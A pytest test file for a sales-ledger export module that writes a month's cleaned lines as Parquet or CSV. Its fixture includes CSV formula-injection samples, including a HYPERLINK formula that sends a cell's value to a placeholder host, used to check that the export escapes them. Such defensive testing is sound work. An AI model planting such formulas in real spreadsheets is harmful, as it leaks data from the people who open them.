"""The month's cleaned sales lines as Parquet or CSV (report/lines_export.py)."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

from hardening.stages import run_stages
from ledgerflow import publish
from ledgerflow.demo import generate_demo
from ledgerflow.errors import ConfigError
from ledgerflow.period import Period
from ledgerflow.report import lines_export

NOVEMBER = Period(2026, 11)
INJECTIONS = [
    '=HYPERLINK("http://example.invalid/?d="&B2,"상세보기")',
    "+플러스상사",
    "-마이너스유통-",
    "@홈마트",
    "\t=SUM(1,2)",
    "\r=1+1 확인 요망",
    "＝全角",
]


def _sales() -> pd.DataFrame:
    """Eight used lines: seven in November 2026 (one a return), one in October."""
    n = 8
    dates = ["2026-11-03"] * 7 + ["2026-10-31"]
    return pd.DataFrame(
        {
            "doc_no": pd.array([f"S{i:03d}" for i in range(n)], dtype="string"),
            "doc_date": pd.to_datetime(dates),
            "partner_code": pd.array(["00123"] * 4 + ["00456"] * 4, dtype="string"),
            "partner_name": pd.array([*INJECTIONS, "한빛상사"], dtype="string"),
            "brn": pd.array(["900101-1234567"] + [None] * 7, dtype="string"),
            "item_code": pd.array(["A-1"] * n, dtype="string"),
            "item_name": pd.array(["볼트", None] * 4, dtype="string"),
            "qty": pd.array([1, 2, 3, 4, 5, 6, -1, 9], dtype="Float64"),
            "unit_price": pd.array([1000] * n, dtype="Float64"),
            "supply_amount": pd.array(
                [1000, 2000, 3000, 4000, 5000, 6000, -1000, 9000], dtype="Float64"
            ),
            "vat_amount": pd.array(
                [100, 200, 300, 400, 500, 600, -100, 900], dtype="Float64"
            ),
            "total_amount": pd.array(
                [1100, 2200, 3300, 4400, 5500, 6600, -1100, 9900], dtype="Float64"
            ),
            "currency": pd.array(["KRW"] * n, dtype="string"),
            "source_file": pd.array(["매출.xlsx"] * n, dtype="string"),
            "source_sheet": pd.array(["매출"] * n, dtype="string"),
            "source_row": range(5, 5 + n),
            "partner_id": pd.array(["P0001"] * 4 + ["P0002"] * 4, dtype="string"),
            # not a canonical column: never exported
            "phone": pd.array(["010-9876-5432"] * n, dtype="string"),
        }
    )


def test_parquet_holds_the_months_lines_with_their_types(tmp_path):
    path = lines_export.write_lines(_sales(), NOVEMBER, tmp_path, "parquet")
    assert path == tmp_path / "lines_2026-11.parquet"
    back = pd.read_parquet(path)
    assert list(back.columns) == lines_export.COLUMNS
    assert "phone" not in back and "email" not in back
    assert len(back) == 7
    # 1000 + ... + 6000 - 1000: October's 9000 is not in November
    assert back["supply_amount"].sum() == 20_000
    assert back["vat_amount"].sum() == 2_000
    assert back["total_amount"].sum() == 22_000
    assert back["qty"].tolist() == [1, 2, 3, 4, 5, 6, -1]
    assert back["source_row"].tolist() == [5, 6, 7, 8, 9, 10, 11]
    assert back["partner_id"].tolist() == ["P0001"] * 4 + ["P0002"] * 3
    assert back["partner_code"].tolist() == ["00123"] * 4 + ["00456"] * 3
    # exact text, never a formula: a Parquet cell is typed
    assert back["partner_name"].tolist() == INJECTIONS
    assert back["brn"].tolist()[0] == "900101-1******"
    # columns no export had are there, empty
    assert back["cost_amount"].isna().all() and back["promised_date"].isna().all()
    assert str(back["doc_date"].dtype) == "datetime64[ns]"
    assert str(back["supply_amount"].dtype) == "Float64"
    assert str(back["partner_code"].dtype) == "string"


def test_csv_keeps_formula_looking_text_as_text_for_excel(tmp_path):
    path = lines_export.write_lines(_sales(), NOVEMBER, tmp_path, "csv")
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs for Hangul
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert list(rows[0]) == lines_export.COLUMNS
    assert len(rows) == 7
    assert [r["partner_name"] for r in rows] == ["'" + text for text in INJECTIONS]
    first = rows[0]
    assert first["doc_date"] == "2026-11-03"
    assert first["partner_code"] == "00123"  # leading zeros stay in the file
    assert first["brn"] == "900101-1******"
    assert first["supply_amount"] == "1000" and first["cost_amount"] == ""
    # numbers are numbers: a return's minus sign is not protected text
    assert rows[6]["supply_amount"] == "-1000" and rows[6]["qty"] == "-1"
    assert rows[1]["item_name"] == ""
    assert sum(float(r["total_amount"]) for r in rows) == 22_000


def test_an_empty_month_still_has_every_column(tmp_path):
    path = lines_export.write_lines(_sales(), Period(2026, 12), tmp_path, "parquet")
    back = pd.read_parquet(path)
    assert len(back) == 0 and list(back.columns) == lines_export.COLUMNS


@pytest.mark.parametrize("kind", ["xlsx", "Parquet", ""])
def test_an_unknown_format_says_what_to_write(kind):
    with pytest.raises(ConfigError) as error:
        lines_export.check_format(kind)
    assert str(error.value) == (
        f"output.lines_export: expected one of parquet, csv, none (got {kind!r}); "
        "fix it in ledgerflow.toml"
    )


# ---------------------------------------------------------------- a real run


@pytest.fixture(scope="module")
def demo_run(tmp_path_factory):
    """One run of the stages over a small demo: (what write_all got, its folder)."""
    root = tmp_path_factory.mktemp("lines")
    generate_demo(root / "input", partners=20, months=2)
    captured: dict = {}
    real = publish.write_all

    def keep(**kwargs):
        captured.update(kwargs)
        return real(**kwargs)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(publish, "write_all", keep)
        summary = run_stages(root / "input", root / "output")
    return captured, summary


def test_the_export_of_a_run_is_the_used_sales_lines_of_the_month(demo_run):
    plan, summary = demo_run
    out = plan["out_dir"]
    name = f"lines_{summary['period']}.parquet"
    assert name in summary["outputs"]
    assert name in json.loads((out / "run.json").read_text("utf-8"))["outputs"]
    back = pd.read_parquet(out / name)
    sales = plan["sales"]
    period = plan["period"]
    used = sales[
        (sales["doc_date"] >= period.start) & (sales["doc_date"] <= period.end)
    ]
    assert len(back) == len(used) > 0
    for column in ("qty", "supply_amount", "vat_amount", "total_amount"):
        assert back[column].sum() == used[column].sum(), column
    assert back["source_row"].tolist() == used["source_row"].tolist()
    assert back["partner_id"].tolist() == used["partner_id"].tolist()
    # the month's revenue in the profitability workbook comes from these lines
    revenue = plan["profitability"].month_total["revenue"]
    assert back.loc[back["partner_id"].notna(), "supply_amount"].sum() == revenue


def test_none_writes_no_export(demo_run, tmp_path):
    plan, _ = demo_run
    settings = {**plan["settings"], "lines_export": "none"}
    written = publish.write_all(**{**plan, "out_dir": tmp_path, "settings": settings})
    assert not [p for p in written if p.name.startswith("lines_")]
    assert not list(tmp_path.glob("lines_*"))
